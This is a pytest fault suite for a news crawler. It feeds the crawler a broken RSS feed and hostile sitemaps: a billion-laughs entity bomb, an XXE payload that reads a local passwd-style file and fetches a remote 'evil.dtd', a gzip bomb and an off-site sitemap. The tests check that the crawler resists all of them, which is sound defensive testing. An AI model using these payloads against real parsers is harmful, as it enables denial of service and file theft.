"""Fault suite, feeds and sitemaps: one real crawl (rss + sitemap sources, with since=) of a look-alike site
whose main feed is broken, whose monthly sitemaps are gzipped, and whose sitemap index lists hostile files:
a billion-laughs entity bomb, an external-entity (XXE) file read, a gzip bomb and a sitemap on another host.
"""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import pytest
from support.crawlkit import CrawlResult, crawl
from support.faultkit import (
    OffsiteHost,
    StoreCheck,
    StoreView,
    add_article,
    all_bytes_under,
    assert_stores_intact,
    gzip_bomb,
    one_summary,
)

from crawler.testing.site import MirrorSpec, Reply, SiteCorpus, SiteRequest, faults, pages, serve_site

pytestmark = pytest.mark.faults

ONLY_IN_BROKEN_FEED, ONLY_IN_LAUGHS = "780291", "780290"
XXE_TARGET_ID, LAUGHS_TARGET_ID = "780299", "780297"
"""The id in the XXE sitemap's <loc>, whose path ends in the entity reference."""

LAUGHS_DTD = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
"""Nine levels of ten: &lol9; would expand to 10**9 'lol's (3 GB)."""


@dataclass
class Run:
    result: CrawlResult
    store: StoreView
    corpus: SiteCorpus
    out: Path
    log: list[tuple[str, str, int | str]]
    offsite_contacts: list[str]
    token: str
    month: str


def _urlset(urls: str, doctype: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        + doctype
        + '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
        'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">' + urls + "</urlset>\n"
    ).encode()


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    out = tmp_path_factory.mktemp("faults-feeds")
    secret = tmp_path_factory.mktemp("faults-secret") / "secret.txt"
    token = "PASSWD-" + secrets.token_hex(12)
    secret.write_text(f"root:x:0:0:{token}:/root:/bin/bash\n", encoding="utf-8")

    # A fixed mid-month clock: with the real one, a run just after midnight on the 1st finds this month's
    # sitemap empty (the articles are an hour old, so last month's).
    corpus = SiteCorpus(gzip_sitemaps=True, off_site_sitemap=False, now=datetime(2026, 9, 15, 12, 0))
    corpus.generate(10, start_id=780201)
    now = corpus.now
    month = f"{now.year:04d}-{now.month:02d}"
    laughs_path = add_article(corpus, ONLY_IN_LAUGHS, "Only listed in the sitemap with the entity bomb", in_feeds=False)
    broken_feed_path = add_article(corpus, ONLY_IN_BROKEN_FEED, "Only linked from the broken feed", in_feeds=False)
    since = min(a.published for a in corpus.articles()).strftime("%Y-%m-01")

    with OffsiteHost() as offsite, serve_site(corpus, [MirrorSpec("healthy", name="primary")]) as site:
        hostile = [
            f"/SiteMap/{month}/sitemap-laughs.xml",
            f"/SiteMap/{month}/sitemap-xxe.xml",
            f"/SiteMap/{month}/sitemap-bomb.xml.gz",
        ]

        def index(req: SiteRequest) -> Reply:
            base = req.mirror.base_url
            locs = [base + corpus.monthly_sitemap_path(m) for m in corpus.months()]
            locs += [base + p for p in hostile]
            locs.append(f"{offsite.base_url}/SiteMap/{month}/sitemap-news-{month}.xml")
            return Reply(body=pages.render_sitemap_index(locs), content_type="application/xml; charset=utf-8")

        site.override("/sitemap.xml", index)
        # libxml2 stops at the bomb (its amplification limit); what comes before it is still read.
        site.override(
            hostile[0],
            faults.body(
                _urlset(
                    f"<url><loc>https://www.presstv.ir/Detail/{now:%Y/%m/%d}/{LAUGHS_TARGET_ID}/&lol2;</loc></url>"
                    f"<url><loc>https://www.presstv.ir{laughs_path}</loc><news:news><news:publication_date>"
                    f"{now.isoformat()}+03:30</news:publication_date><news:title>&lol9;</news:title></news:news></url>",
                    f"<!DOCTYPE urlset [{LAUGHS_DTD}]>\n",
                ),
                "application/xml",
            ),
        )
        site.override(
            hostile[1],
            faults.body(
                _urlset(
                    f"<url><loc>https://www.presstv.ir/Detail/{now:%Y/%m/%d}/{XXE_TARGET_ID}/&xxe;</loc>"
                    "<news:news><news:title>&xxe; &remote;</news:title></news:news></url>",
                    f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "{secret.as_uri()}">'
                    f'<!ENTITY remote SYSTEM "{offsite.base_url}/evil.dtd">]>\n',
                ),
                "application/xml",
            ),
        )
        site.override(hostile[2], faults.body(gzip_bomb(200), "application/x-gzip"))
        # The main feed breaks off mid-item, with stray bytes: the items before the damage are still read.
        feed = corpus.rss()
        broken = (
            feed.split(b"<item>")[0]
            + f"<item><link>https://www.presstv.ir{broken_feed_path}</link><title>Recovered</title></item>".encode()
            + b"<item><link>https://www.presstv.ir/Detail/2026/01/01/780298/x</link><title>cut \x00\xff <b>"
        )
        site.override("/rss.xml", faults.body(broken, "application/rss+xml"))
        site.override("/rss/rss-101.xml", faults.body(b"\x00\x01\x02 not a feed at all", "application/rss+xml"))
        result = crawl(
            out,
            site.mirrors_arg,
            "sources=rss,sitemap",
            f"since={since}",
            settings={"CRAWLER_STORE": str(out / "store.sqlite")},
        )
        log = list(site.log)
    final = StoreCheck("feed and sitemap faults", out / "store.sqlite", corpus.article_ids())
    yield Run(result, StoreView(out / "store.sqlite"), corpus, out, log, list(offsite.contacts), token, month)
    # After every test of the module read the store: still sound, each article once.
    assert_stores_intact([final])


def test_the_run_finishes_with_status_0_and_one_clear_summary(run: Run) -> None:
    assert run.result.returncode == 0, run.result.stderr[-3000:]
    summary = one_summary(run.result.stderr)
    n = len(run.corpus.article_ids())
    assert summary.startswith(f"{n} articles extracted ({n} new,"), summary


def test_malformed_rss_is_read_as_far_as_it_goes_and_warned(run: Run) -> None:
    assert run.store.item(ONLY_IN_BROKEN_FEED) is not None, "the link before the damage was followed"
    assert run.result.stats["discovery/rss/malformed"] >= 1
    assert any("malformed rss" in line and "/rss.xml" in line for line in run.result.stderr.splitlines())
    assert run.result.stats["discovery/rss/not_xml"] == 1, "a feed that is not XML at all is skipped"


def test_billion_laughs_sitemap_is_read_without_expanding_entities(run: Run) -> None:
    assert run.store.item(ONLY_IN_LAUGHS) is not None, "the sitemap's real links were still used"
    assert ("primary", f"/SiteMap/{run.month}/sitemap-laughs.xml", 200) in run.log
    assert not [p for _, p, _ in run.log if "lol" in p], "an entity was expanded into a requested URL"
    assert any("malformed sitemap" in line and "sitemap-laughs.xml" in line for line in run.result.stderr.splitlines())
    assert [f["reason"] for f in run.store.failures(LAUGHS_TARGET_ID)] == ["HTTP 404"], "requested as written"
    for path, data in all_bytes_under(run.out):
        assert b"lollollol" not in data, f"entities expanded into {path}"
    assert "lollollol" not in run.result.stderr


def test_external_entity_is_never_resolved_and_no_file_is_read(run: Run) -> None:
    assert ("primary", f"/SiteMap/{run.month}/sitemap-xxe.xml", 200) in run.log
    token = run.token
    assert token not in run.result.stderr
    assert not [p for _, p, _ in run.log if token in p], "the secret reached a requested URL"
    for path, data in all_bytes_under(run.out):
        assert token.encode() not in data, f"the secret file's text ended up in {path}"
    assert run.offsite_contacts == [], "an external entity made the crawler contact another host"
    # The <loc> that ended in the entity reference was requested as written, without it, and failed plainly.
    assert [f["reason"] for f in run.store.failures(XXE_TARGET_ID)] == ["HTTP 404"]


def test_gzip_monthly_sitemaps_are_read(run: Run) -> None:
    gz = [p for m, p, s in run.log if p.endswith(f"sitemap-news-{run.month}.xml.gz") and s == 200]
    assert gz, "the gzipped monthly sitemap was not fetched"
    in_sitemaps = len([a for a in run.corpus.articles() if a.in_feeds]) + 1  # + the one in the laughs file
    assert run.result.stats["discovery/sitemap/article_links"] >= in_sitemaps


def test_gzip_bomb_sitemap_is_skipped_with_a_warning(run: Run) -> None:
    assert run.result.stats["discovery/sitemap/bad_gzip"] == 1
    assert any("sitemap-bomb.xml.gz: cannot gunzip" in line for line in run.result.stderr.splitlines())


def test_sitemap_index_entry_off_site_is_ignored(run: Run) -> None:
    assert run.offsite_contacts == [], "the off-site sitemap host was contacted"
    assert run.result.stats["discovery/sitemap/offsite_ignored"] == 1


def test_store_is_intact_and_holds_exactly_the_expected_articles(run: Run) -> None:
    assert run.store.integrity() == "ok"
    assert run.store.article_ids() == sorted(run.corpus.article_ids())
